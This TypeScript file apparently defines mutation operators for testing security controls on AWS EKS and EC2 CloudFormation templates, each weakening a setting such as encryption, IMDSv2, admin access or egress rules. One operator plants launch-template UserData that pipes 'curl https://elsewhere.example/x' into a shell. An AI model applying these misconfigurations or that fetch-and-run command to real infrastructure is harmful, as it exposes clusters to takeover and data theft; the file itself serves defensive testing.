import { listOf, objectOf, valueAt } from '../../../lib/controls/json-shape';
import { at, eachItem, gone, planted, setting, without, type Operators } from '../operator';

const data = 'LaunchTemplateData';
const disks = `${data}.BlockDeviceMappings`;
const administrator = 'arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy';

/** Changes of clusters, of who may do what in them, and of their nodes. */
export const computeOperators: Operators = {
  'AWS::EKS::Cluster': [
    at('hide the API from its own network', 'ResourcesVpcConfig.EndpointPrivateAccess', false),
    at(
      'take names from a map in the cluster',
      'AccessConfig.AuthenticationMode',
      'API_AND_CONFIG_MAP',
    ),
    at(
      'make its creator an administrator',
      'AccessConfig.BootstrapClusterCreatorAdminPermissions',
      true,
    ),
    eachItem('drop a kind of log', 'Logging.ClusterLogging.EnabledTypes', () => []),
    without('leave its secrets to AWS', 'EncryptionConfig'),
    at('let anybody delete it', 'DeletionProtection', false),
    without('say nothing about upgrades', 'UpgradePolicy'),
    without('stay in a broken zone', 'ZonalShiftConfig'),
    at('run whichever version', 'Version', undefined),
  ],
  'AWS::EKS::AccessEntry': [
    setting('make it an administrator', ({ properties }) =>
      JSON.stringify(properties['AccessPolicies'] ?? null).includes(administrator)
        ? null
        : { AccessPolicies: [{ AccessScope: { Type: 'cluster' }, PolicyArn: administrator }] },
    ),
    setting('put it into a group of the system', () => ({ KubernetesGroups: ['system:masters'] })),
    setting('let everybody be it', () => ({ PrincipalArn: '*' })),
    setting('say no namespace', ({ properties }) =>
      JSON.stringify(properties['AccessPolicies'] ?? null).includes('"namespace"')
        ? {
            AccessPolicies: listOf(properties['AccessPolicies']).map((policy) => ({
              ...objectOf(policy),
              AccessScope: { Type: 'namespace', Namespaces: [] },
            })),
          }
        : null,
    ),
  ],
  'AWS::EKS::Addon': [
    without('run whichever version', 'AddonVersion'),
    setting('let every pod reach every pod', ({ properties }) => {
      const text = JSON.stringify(properties['ConfigurationValues'] ?? null);
      const stated = String.raw`\"enableNetworkPolicy\":\"true\"`;
      return text.includes(stated)
        ? {
            ConfigurationValues: JSON.parse(
              text.replace(stated, stated.replace('true', 'false')),
            ) as unknown,
          }
        : null;
    }),
  ],
  'AWS::EKS::Nodegroup': [
    without('start nodes from no template of ours', 'LaunchTemplate'),
    setting('let engineers in by SSH', () => ({ RemoteAccess: { Ec2SshKey: 'key' } })),
    without('repair no node', 'NodeRepairConfig'),
    at('start nodes from an image that has ended', 'AmiType', 'AL2_x86_64'),
    without('say nothing about what it costs', 'CapacityType'),
  ],
  'AWS::EC2::LaunchTemplate': [
    at('hand credentials to pods', `${data}.MetadataOptions.HttpPutResponseHopLimit`, 2),
    at('hand credentials out by IMDSv1', `${data}.MetadataOptions.HttpTokens`, 'optional'),
    eachItem('leave a disk in the clear', disks, (disk) => [
      { ...disk, Ebs: { ...objectOf(disk['Ebs']), Encrypted: false } },
    ]),
    eachItem('leave a disk under a key of AWS', disks, (disk) => [
      { ...disk, Ebs: { ...objectOf(disk['Ebs']), KmsKeyId: undefined } },
    ]),
    setting('let engineers in by SSH', ({ properties }) => ({
      [data]: { ...objectOf(properties[data]), KeyName: 'key' },
    })),
    setting('run what somebody else says', ({ properties }) => ({
      [data]: {
        ...objectOf(properties[data]),
        UserData: Buffer.from('#!/bin/sh\ncurl https://elsewhere.example/x | sh').toString(
          'base64',
        ),
      },
    })),
  ],
  'AWS::EC2::SecurityGroup': [
    setting('say nothing about what leaves', ({ properties }) =>
      properties['SecurityGroupEgress'] === undefined ? null : { SecurityGroupEgress: undefined },
    ),
    eachItem('drop a way out', 'SecurityGroupEgress', ({ CidrIp: to }) =>
      // The one that stands for none.
      to === '255.255.255.255/32' ? null : [],
    ),
    eachItem('let a way out lead everywhere', 'SecurityGroupEgress', (rule) => [
      {
        ...rule,
        ...{ CidrIp: '0.0.0.0/0', DestinationSecurityGroupId: undefined },
        ...{ DestinationPrefixListId: undefined, IpProtocol: '-1' },
      },
    ]),
  ],
  'AWS::EC2::SecurityGroupEgress': [
    gone,
    setting('let a way out lead everywhere', () => ({
      ...{ CidrIp: '0.0.0.0/0', DestinationSecurityGroupId: undefined },
      ...{ DestinationPrefixListId: undefined, IpProtocol: '-1' },
    })),
  ],
  'AWS::EC2::TransitGateway': [
    setting('let everybody join', () => ({ AutoAcceptSharedAttachments: 'enable' })),
  ],
  'AWS::EC2::RouteTable': [
    {
      name: 'add a way out for IPv6',
      edits: ({ logicalId, properties }) => [
        (all) => {
          all['Planted'] = planted('AWS::EC2::EgressOnlyInternetGateway', {
            VpcId: properties['VpcId'],
          });
          all['PlantedRoute'] = planted('AWS::EC2::Route', {
            RouteTableId: { Ref: logicalId },
            DestinationIpv6CidrBlock: '::/0',
            EgressOnlyInternetGatewayId: { Ref: 'Planted' },
          });
        },
      ],
    },
  ],
  'AWS::IAM::Role': [
    setting('make nodes administrators', ({ properties, logicalId }) =>
      logicalId.startsWith('NodeRole') &&
      JSON.stringify(valueAt(properties, 'AssumeRolePolicyDocument') ?? null).includes('ec2.')
        ? {
            ManagedPolicyArns: [
              ...listOf(properties['ManagedPolicyArns']),
              'arn:aws:iam::aws:policy/AdministratorAccess',
            ],
          }
        : null,
    ),
  ],
};
